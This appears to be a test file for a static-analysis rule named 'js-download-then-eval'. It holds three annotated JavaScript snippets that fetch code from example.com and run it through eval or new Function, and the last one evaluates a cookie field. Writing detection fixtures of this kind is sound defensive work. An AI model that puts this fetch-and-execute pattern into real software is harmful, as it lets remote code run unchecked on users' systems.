async function load() {
  const answer = await fetch("https://example.com/x.js");
  // ruleid: js-download-then-eval
  eval(await answer.text());
}
const https = require("https");
https.get("https://example.com/y.js", (res) => {
  let text = "";
  res.on("data", (chunk) => (text += chunk));
  // ruleid: js-download-then-eval
  res.on("end", () => new Function("require", text)(require));
});
axios.get("https://example.com/z").then((r) => {
  // ruleid: js-download-then-eval
  eval(r.data.cookie);
});
